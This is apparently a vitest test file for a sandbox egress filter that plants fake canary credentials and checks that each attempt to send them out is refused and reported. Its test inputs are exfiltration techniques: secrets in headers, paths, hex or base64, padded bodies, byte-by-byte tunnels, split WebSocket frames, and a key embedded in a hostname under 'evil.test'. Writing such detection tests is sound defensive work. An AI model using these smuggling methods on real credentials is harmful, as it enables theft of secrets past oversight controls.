// Row 64 of the corpus and what follows from it: a canary goes nowhere, in whatever form, and whoever tries is told of.
import { randomBytes } from 'node:crypto';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { text } from 'node:stream/consumers';
import { describe, expect, test } from 'vitest';
import type { EventData } from '../../src/contracts/index.ts';
import { EgressRig, headOf, until, within } from '../support/egress.ts';

async function rigWith(policy = 'canaries: true') {
  const rig = new EgressRig();
  const seen: string[] = [];
  const serve = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    seen.push(`${request.method} ${request.url} ${JSON.stringify(request.rawHeaders)} ${await text(request).catch(() => 'broken off')}`);
    response.end('ok');
  };
  const port = await rig.https((request, response) => void serve(request, response));
  const plain = await rig.http((request, response) => void serve(request, response));
  const tunnel = await rig.raw((socket) => socket.on('data', (bytes: Buffer) => seen.push(bytes.toString())).on('end', () => socket.end()));
  rig.names.set('up.test', [['127.0.0.1']]);
  await rig.open(`network: [{ host: up.test, port: ${port}, private: true }, { host: up.test, port: ${plain}, private: true }, { host: up.test, tcp: ${tunnel}, private: true }]\n${policy}\n`);
  const { env, files } = rig.egress.provisions('/x');
  return { rig, seen, env, files, url: `https://up.test:${port}`, plain, tunnel };
}

const anomalies = (rig: EgressRig): EventData['anomaly.raised'][] => rig.events.flatMap((event) => (event.type === 'anomaly.raised' ? [event.data] : []));
const told = async (rig: EgressRig): Promise<EventData['anomaly.raised']> => await until(() => anomalies(rig)[0], 'an anomaly in the journal');

test('they are in variables and files, shaped like the real thing, others in each session, and only where policy plants them', async () => {
  const [one, two, none, inEnv] = [await rigWith(), await rigWith(), await rigWith(''), await rigWith('canaries: [env]')];
  await using _rigs = { [Symbol.asyncDispose]: async () => void (await Promise.all([one, two, none, inEnv].map(({ rig }) => rig[Symbol.asyncDispose]()))) };
  expect(one.env).toMatchObject({ RELEASE_GITHUB_TOKEN: expect.stringMatching(/^ghp_\w{36}$/), BACKUP_AWS_ACCESS_KEY_ID: expect.stringMatching(/^AKIA[A-Z2-7]{16}$/), BACKUP_AWS_SECRET_ACCESS_KEY: expect.stringMatching(/^[\w/+]{40}$/) });
  expect(one.files['/home/sandbox/.aws/credentials']?.toString()).toMatch(/^\[production\]\naws_access_key_id = AKIA\w{16}\naws_secret_access_key = \S{40}\n$/);
  expect(one.files['/home/sandbox/.netrc']?.toString()).toMatch(/^machine artifacts\.internal login deploy password \w{32}\n$/);
  expect(two.env['RELEASE_GITHUB_TOKEN']).not.toBe(one.env['RELEASE_GITHUB_TOKEN']);
  expect(Object.keys(none.env)).not.toContain('RELEASE_GITHUB_TOKEN');
  expect(Object.keys(inEnv.env)).toContain('RELEASE_GITHUB_TOKEN');
  expect(Object.keys(inEnv.files)).not.toContain('/home/sandbox/.netrc');
});

describe('a canary is not sent', () => {
  test.each<[string, (canary: string) => { path?: string; headers?: Record<string, string>; body?: string }]>([
    ['in a header', (c) => ({ headers: { authorization: `Bearer ${c}` } })],
    ['in Basic auth', (c) => ({ headers: { authorization: `Basic ${Buffer.from(`deploy:${c}`).toString('base64')}` } })],
    ['as the name of a header', (c) => ({ headers: { [c.replaceAll(/[/+]/g, 'x')]: c } })],
    ['in a path', (c) => ({ path: `/${c}` })],
    ['in a query', (c) => ({ path: `/?q=${encodeURIComponent(c)}` })],
    ['in hex', (c) => ({ path: `/${Buffer.from(c).toString('hex')}` })],
    ['in a body', (c) => ({ body: `{"env":"${c}"}` })],
    ['in a body, in base64, behind a megabyte', (c) => ({ body: 'x'.repeat(1_000_001) + Buffer.from(`env: ${c}\n`).toString('base64') })],
  ])('%s', async (_, request) => {
    const { rig, seen, env, url } = await rigWith();
    await using _rig = rig;
    const canary = env['BACKUP_AWS_SECRET_ACCESS_KEY'] ?? '';
    const { path = '/', headers = {}, body } = request(canary);
    expect(await rig.getByName(url + path, { method: body === undefined ? 'GET' : 'POST', headers }, body)).toMatchObject({ status: 403, body: 'glovebox: what was to be sent has a credential in it that goes nowhere\n' });
    expect(seen.join('')).not.toContain(canary.slice(3, 30));
    expect(seen.filter((one) => !one.endsWith('broken off'))).toEqual([]);
    expect(await told(rig)).toMatchObject({ kind: 'canary', evidence: { canary: 'env BACKUP_AWS_SECRET_ACCESS_KEY', where: 'egress', host: 'up.test' } });
    expect(rig.refusals()).toMatchObject([{ code: 'canary', host: 'up.test' }]);
    expect(JSON.stringify(rig.events)).not.toContain(canary);
  });

  test('as a part of a host name, before anybody is asked for it', async () => {
    const { rig, env } = await rigWith();
    await using _rig = rig;
    await expect(rig.connectTo(`${env['BACKUP_AWS_ACCESS_KEY_ID']}.evil.test:443`)).rejects.toThrow('403');
    expect(await told(rig)).toMatchObject({ evidence: { canary: 'env BACKUP_AWS_ACCESS_KEY_ID' } });
    expect(rig.questions).toEqual([]);
  });

  test('through a tunnel, in single bytes: what came before is all that went', async () => {
    const { rig, seen, env, tunnel } = await rigWith();
    await using _rig = rig;
    const stream = rig.dialName('up.test', tunnel);
    for (const byte of `before ${env['RELEASE_GITHUB_TOKEN']} after`) stream.write(byte);
    await within(new Promise<void>((resolve) => stream.once('close', resolve)), 'the end of the tunnel');
    expect(await told(rig)).toMatchObject({ evidence: { canary: 'env RELEASE_GITHUB_TOKEN', port: tunnel } });
    expect('before ghp_').toContain(seen.join('').slice(0, 11));
    expect(seen.join('')).not.toContain(env['RELEASE_GITHUB_TOKEN']?.slice(4, 12));
  });
});

describe('in a WebSocket', () => {
  /** As a client has to: masked. */
  function frame(text: string | Buffer, { opcode = 1, final = true, reserved = 0, key = randomBytes(4) } = {}): Buffer {
    const payload = Buffer.from(text);
    const length = payload.length < 126 ? Buffer.from([0x80 | payload.length]) : Buffer.from([0x80 | 126, payload.length >> 8, payload.length & 0xff]);
    return Buffer.concat([Buffer.from([(final ? 0x80 : 0) | reserved | opcode]), length, key, payload.map((byte, i) => byte ^ (key[i % 4] ?? 0))]);
  }

  async function conversation() {
    const rig = new EgressRig();
    const heads: string[] = [];
    const came: Buffer[] = [];
    const port = await rig.raw((socket) => {
      void headOf(socket).then((head) => {
        heads.push(head);
        socket.write('HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\nsec-websocket-accept: x\r\n\r\n');
        socket.on('data', (bytes: Buffer) => came.push(bytes)).on('end', () => socket.end());
      });
    });
    rig.names.set('up.test', [['127.0.0.1']]);
    await rig.open(`network: [{ host: up.test, port: ${port}, private: true, websocket: true }]\ncanaries: true\n`);
    const stream = rig.dialName('up.test', port);
    stream.write(`GET /chat HTTP/1.1\r\nhost: up.test:${port}\r\nconnection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-version: 13\r\nsec-websocket-extensions: permessage-deflate\r\n\r\n`);
    expect(await headOf(stream)).toMatch(/^HTTP\/1\.1 101 /);
    return { rig, stream, heads, came, canary: rig.egress.provisions('/x').env['RELEASE_GITHUB_TOKEN'] ?? '' };
  }
  /** Payloads of what arrived, without their masks. */
  const said = (bytes: Buffer): string => {
    let text = '';
    for (let at = 0; at + 6 <= bytes.length; ) {
      const short = (bytes[at + 1] ?? 0) & 0x7f;
      const [length, keyAt] = short === 126 ? [bytes.readUInt16BE(at + 2), at + 4] : [short, at + 2];
      text += bytes.subarray(keyAt + 4, keyAt + 4 + length).map((byte, i) => byte ^ (bytes[keyAt + (i % 4)] ?? 0)).toString();
      at = keyAt + 4 + length;
    }
    return text;
  };

  test.each<[string, (canary: string) => Buffer[]]>([
    ['in one frame', (c) => [frame(`{"token":"${c}"}`)]],
    ['in a long one', (c) => [frame(`${'x'.repeat(500)}${c}`)]],
    ['across frames of a message', (c) => [frame(c.slice(0, 17), { final: false }), frame(c.slice(17), { opcode: 0 })]],
    ['with a ping between them', (c) => [frame(c.slice(0, 17), { final: false }), frame('hello', { opcode: 9 }), frame(c.slice(17), { opcode: 0 })]],
    ['in pings', (c) => [frame(c.slice(0, 20), { opcode: 9 }), frame(c.slice(20), { opcode: 9 })]],
    ['in base64', (c) => [frame(Buffer.from(`env ${c}`).toString('base64'), { opcode: 2 })]],
  ])('%s it is not sent, in whatever pieces', async (_, frames) => {
    for (const inBytes of [false, true]) {
      const { rig, stream, came, canary } = await conversation();
      await using _rig = rig;
      const all = Buffer.concat([frame('before'), ...frames(canary)]);
      for (const piece of inBytes ? [...all].map((byte) => Buffer.from([byte])) : [all]) stream.write(piece);
      await within(new Promise<void>((resolve) => stream.once('close', resolve)), 'the end of the conversation');
      expect(await told(rig)).toMatchObject({ kind: 'canary', evidence: { canary: 'env RELEASE_GITHUB_TOKEN', where: 'egress', host: 'up.test' } });
      const arrived = said(Buffer.concat(came));
      expect([arrived, Buffer.from(arrived, 'base64').toString()].join(' ')).not.toContain(canary.slice(4, 16));
      expect(await rig.ended()).toMatchObject({ scheme: 'ws', failure: expect.stringContaining('goes nowhere') });
    }
  });

  test('what is none goes as it came, and nothing is compressed', async () => {
    const { rig, stream, heads, came, canary } = await conversation();
    await using _rig = rig;
    const all = Buffer.concat([frame('a'.repeat(300)), frame(`${canary.slice(0, -1)}!`), frame(''), frame('bye', { opcode: 8 })]);
    for (let at = 0; at < all.length; at += 7) stream.write(all.subarray(at, at + 7));
    await until(() => (Buffer.concat(came).length >= all.length ? true : undefined), 'all frames');
    expect(Buffer.concat(came).equals(all)).toBe(true);
    expect(heads[0]).not.toMatch(/extensions|deflate/i);
    stream.write(frame('squeezed', { reserved: 0x40 }));
    await within(new Promise<void>((resolve) => stream.once('close', resolve)), 'the end of the conversation');
    expect(Buffer.concat(came).equals(all)).toBe(true);
    expect(rig.refusals()).toMatchObject([{ code: 'request_invalid', text: expect.stringContaining('WebSocket') }]);
  });
});

test('what is no canary goes as it came, with its length', async () => {
  const { rig, seen, url, env } = await rigWith();
  await using _rig = rig;
  const body = `AKIA ghp_ ${env['RELEASE_GITHUB_TOKEN']?.slice(0, -1)} ${'x'.repeat(70_000)}`;
  expect(await rig.getByName(`${url}/a`, { method: 'POST', headers: { 'content-length': String(body.length) } }, body)).toMatchObject({ status: 200 });
  expect(seen[0]).toContain(`"${body.length}"`);
  expect(seen[0]?.endsWith(body)).toBe(true);
  expect(anomalies(rig)).toEqual([]);
});

test('it is told once for each place, and refused each time', async () => {
  const { rig, url, env } = await rigWith();
  await using _rig = rig;
  for (let i = 0; i < 3; i++) expect(await rig.getByName(`${url}/?q=${env['RELEASE_GITHUB_TOKEN']}`)).toMatchObject({ status: 403 });
  await told(rig);
  expect(anomalies(rig)).toHaveLength(1);
  expect(rig.refusals()).toHaveLength(3);
});
